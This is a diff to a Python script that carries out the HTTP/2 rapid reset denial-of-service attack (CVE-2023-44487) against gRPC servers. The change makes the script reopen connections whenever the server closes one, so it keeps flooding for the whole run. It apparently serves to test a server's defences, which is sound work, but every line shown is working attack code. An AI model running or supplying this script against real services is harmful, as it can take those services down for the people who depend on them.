@@ -1,10 +1,12 @@
 #!/usr/bin/python3
 """HTTP/2 rapid reset (CVE-2023-44487) against a gRPC port, bounded.
 
-Opens one plaintext HTTP/2 connection (prior knowledge) and, for SECONDS,
-opens streams calling METHOD and resets each at once, as fast as it can,
-reading whatever the server sends so flow control never stalls. Prints how
-many streams it reset. Debian's python3-h2 speaks the protocol.
+For SECONDS, opens plaintext HTTP/2 connections (prior knowledge) and on
+each opens streams calling METHOD and resets each at once, as fast as it
+can, reading whatever the server sends so flow control never stalls. When
+the server closes a connection it opens the next, as a determined attacker
+would. Prints how many streams it reset and how many connections it used:
+"reset=N connections=M". Debian's python3-h2 speaks the protocol.
 
 Usage: rapid_reset.py HOST PORT METHOD SECONDS
 """
@@ -19,27 +21,28 @@ import h2.errors
 import h2.exceptions
 
 
-def main():
-    host, port, method, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
-    sock = socket.create_connection((host, port), timeout=5)
+def attack(host, port, headers, end):
+    """Resets streams on one connection until `end` or until the server
+    closes it; returns how many."""
+    try:
+        sock = socket.create_connection((host, port), timeout=5)
+    except OSError:
+        time.sleep(0.05)
+        return 0
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
     conn.initiate_connection()
-    headers = [(":method", "POST"), (":scheme", "http"), (":path", method),
-               (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
-               ("te", "trailers")]
     reset = 0
-    end = time.monotonic() + seconds
-    while time.monotonic() < end:
-        try:
-            stream = conn.get_next_available_stream_id()
-            conn.send_headers(stream, headers)
-            conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
-            reset += 1
-        except h2.exceptions.NoAvailableStreamIDError:
-            break  # 2^30 streams: more than any run reaches
-        except h2.exceptions.ProtocolError:
-            pass
-        try:
+    try:
+        while time.monotonic() < end:
+            try:
+                stream = conn.get_next_available_stream_id()
+                conn.send_headers(stream, headers)
+                conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
+                reset += 1
+            except h2.exceptions.NoAvailableStreamIDError:
+                break  # 2^30 streams: more than any run reaches
+            except h2.exceptions.ProtocolError:
+                pass
             data = conn.data_to_send()
             if data:
                 sock.sendall(data)
@@ -48,9 +51,24 @@ def main():
                 if not received:
                     raise ConnectionError("closed by the server")
                 conn.receive_data(received)
-        except (OSError, h2.exceptions.ProtocolError):
-            break  # the server closed the connection: also a defence
-    print(reset)
+    except (OSError, h2.exceptions.ProtocolError):
+        pass  # the server closed the connection: open another
+    finally:
+        sock.close()
+    return reset
+
+
+def main():
+    host, port, method, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", method),
+               (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
+               ("te", "trailers")]
+    reset = connections = 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        reset += attack(host, port, headers, end)
+        connections += 1
+    print(f"reset={reset} connections={connections}", flush=True)
 
 
 if __name__ == "__main__":
